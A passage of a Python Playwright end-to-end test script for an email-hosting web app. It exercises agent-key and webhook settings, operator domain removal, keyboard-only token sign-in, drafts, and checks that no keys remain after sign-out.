    page.get_by_role("form", name="Allowlist a domain").get_by_label("Domain").fill("friends.example")
    page.get_by_role("button", name="Allowlist").click()
    expect(page.locator("table")).to_contain_text("friends.example")
    watch.check()


def agent(browser):
    """The agent key's settings: its switch, and the webhook."""
    page, watch = new_page(browser, "agent")
    # Who holds a key is found by asking: getAccountStatus refuses the agent key.
    watch.expect_refusal(403)
    sign_in(page, AGENT_KEY)
    nav(page, "Agent settings")
    expect(page.locator(".settings")).to_contain_text("Credits remaining")
    page.get_by_role("button", name="Disable the agent key").click()
    expect(page.locator(".settings")).to_contain_text("disabled")
    page.get_by_role("button", name="Enable the agent key").click()
    expect(page.get_by_role("button", name="Disable the agent key")).to_be_visible()
    hook = page.get_by_role("form", name="Webhook")
    hook.get_by_label("HTTPS URL").fill("http://hooks.example.com/mail")
    watch.expect_refusal(400)
    hook.get_by_role("button", name="Register webhook").click()
    expect(hook.get_by_role("alert")).to_contain_text("https")
    hook.get_by_label("HTTPS URL").fill(HOOK_URL)
    hook.get_by_label("outbound.bounced").check()
    hook.get_by_role("button", name="Register webhook").click()
    secret = page.locator(".copy-row code.secret")
    expect(secret).to_contain_text("whsec_")
    first = secret.inner_text()
    page.get_by_role("button", name="Rotate the secret").click()
    expect(secret).not_to_have_text(first)
    expect(page.get_by_role("form", name="Webhook").get_by_label("outbound.bounced")).to_be_checked()
    expect(page.get_by_text("No deliveries yet.")).to_be_visible()
    # A message to the service's inbox: the webhook fires, the log shows it, a replay sends it again.
    harness("/receiver", body={"secret": secret.inner_text()})
    harness("/deliver", raw=(
        "Delivered-To: inbox@svc.test\r\nFrom: Pat <pat@partner.example>\r\nTo: inbox@svc.test\r\n"
        "Subject: For the agent\r\nMessage-ID: <agent@partner.example>\r\n\r\nHello agent\r\n"
    ))
    row = page.locator("tr[data-event]").first
    for _ in range(20):
        nav(page, "Mail")
        nav(page, "Agent settings")
        if row.count():
            break
        page.wait_for_timeout(500)
    expect(row).to_contain_text("HTTP 200")
    row.get_by_role("button", name="Replay").click()
    expect(row.get_by_role("button", name="Replay")).to_be_enabled()
    got = json.loads(harness("/receiver"))
    assert len(got) == 2, got
    shot(page, "agent-webhook")
    nav(page, "Mail")
    shot(page, "agent-mail")
    watch.check()
    signs_out(page, watch, AGENT_KEY)


def operator_removes_domain(page, watch):
    """Removing a customer's domain asks for its name typed again."""
    nav(page, "Operators")
    removal = page.get_by_role("form", name="Remove a domain")
    removal.get_by_label("Owner email").fill(PERSON)
    removal.get_by_label("Domain", exact=True).fill(DOMAIN)
    watch.expect_refusal(400)
    removal.get_by_role("button", name="Remove domain").click()
    expect(removal.get_by_role("alert")).to_contain_text(f"confirm must equal {DOMAIN}")
    removal.get_by_label("Type the domain again to confirm").fill(DOMAIN)
    removal.get_by_role("button", name="Remove domain").click()
    expect(page.get_by_text(f"{DOMAIN} was removed.")).to_be_visible()
    watch.check()


def token_sign_in(browser):
    """An operator pastes an identity token with the keyboard alone (Tab to
    the field, Enter to sign in, Tab and Enter through the pages); it is gone
    after sign-out."""
    page, watch = new_page(browser, "token")
    page.goto(BASE + "/")
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    tab_to(page, lambda: page.get_by_label("Key or identity token"))
    page.keyboard.insert_text(OPERATOR_TOKEN)
    page.keyboard.press("Enter")
    expect(page.locator("#nav")).to_be_visible()
    for name in ["Domain", "Operators"]:
        tab_to(page, lambda: page.locator("#nav").get_by_role("link", name=name, exact=True))
        page.keyboard.press("Enter")
        expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
    tab_to(page, lambda: page.get_by_role("button", name="Sign out"))
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    sign_in(page, OPERATOR_TOKEN)
    nav(page, "Operators")
    signs_out(page, watch, OPERATOR_TOKEN)


def tab_to(page, target, presses=80):
    """Presses Tab until `target()` has the focus: the control is reachable
    from the keyboard, in the page's own order."""
    for _ in range(presses):
        page.keyboard.press("Tab")
        if target().evaluate("el => el === document.activeElement"):
            return
    raise AssertionError(f"not reached with {presses} presses of Tab: {target()}")


def drafts(page, watch):
    """An operator (an identity token) keeps a draft and finds it again."""
    nav(page, "Mail")
    expect(page.get_by_role("heading", name="Drafts")).to_be_visible()
    page.get_by_role("button", name="Write").click()
    compose = page.get_by_role("form", name="New message")
    compose.get_by_label("To").fill("someone@partner.example")
    compose.get_by_label("Subject").fill("Quarterly note")
    compose.get_by_label("Message").fill("Draft text")
    # A draft keeps its copies too, and comes back with them.
    compose.get_by_label("Cc", exact=True).fill("lee@partner.example")
    compose.get_by_label("Bcc", exact=True).fill("me@partner.example")
    compose.get_by_role("button", name="Save draft").click()
    expect(compose.get_by_role("button", name="Saved")).to_be_visible()
    compose.get_by_role("button", name="Cancel").click()
    draft = page.locator(".drafts").get_by_role("link", name="Quarterly note")
    expect(draft).to_be_visible()
    draft.click()
    reopened = page.get_by_role("form", name="New message")
    expect(reopened.get_by_label("Message")).to_have_value("Draft text")
    expect(reopened.get_by_label("Cc", exact=True)).to_have_value("lee@partner.example")
    expect(reopened.get_by_label("Bcc", exact=True)).to_have_value("me@partner.example")
    shot(page, "draft")
    page.get_by_role("button", name="Cancel").click()
    watch.check()


def signs_out(page, watch, key):
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    storage = page.evaluate("JSON.stringify([Object.entries(sessionStorage), Object.entries(localStorage)])")
    assert key not in storage, storage
    page.reload()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    assert page.evaluate("sessionStorage.length + localStorage.length") == 0
    cookies = page.context.cookies()
    assert cookies == [], cookies
    leaked = [u for u in watch.urls if key in u]
    assert leaked == [], leaked
    watch.check()


def main():
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        serving(browser)
        page, watch = new_page(browser, "person")
        request_refused(page, watch)
        request_access(page, watch)
        requested = page.locator("section", has=page.get_by_role("form", name="Request access"))
        expect(requested.get_by_role("status")).to_be_visible()
        # Not yet approved: what happens next, in words for people.
        expect(requested.get_by_role("status")).to_contain_text("an operator reviews the request")
        expect(requested.get_by_role("status")).not_to_contain_text("getRequestStatus")
        watch.check()
        op_page, op_watch = operator_approves(browser)
        key = person_gets_key(page, watch)
        checklist_first(page, watch)
        domain(page, watch)
        mailboxes(page, watch)
        checklist_done(page, watch)
        webmail(page, watch)
        conversation(page, watch)
        inline_images(page, watch)
        malicious(page, watch)
        quarantine(page, watch)
        bidi(page, watch)
        mail_lists(page, watch)
        sent_mail(page, watch)
        guardrails(page, watch, key)
        account_settings(page, watch)
        operator_pauses(op_page, op_watch)
        drafts(op_page, op_watch)
        agent(browser)
        signs_out(page, watch, key)
        operator_removes_domain(op_page, op_watch)
        op_page.get_by_role("button", name="Sign out").click()
        expect(op_page.get_by_role("heading", name="Sign in")).to_be_visible()
        assert op_page.evaluate("sessionStorage.length + localStorage.length") == 0
        op_watch.check()
        token_sign_in(browser)
        browser.close()
    print(json.dumps({"screenshots": shot_names}))


if __name__ == "__main__":
    try:
        main()
    except AssertionError as e:
        print(f"FAILED: {e}", file=sys.stderr)
        raise
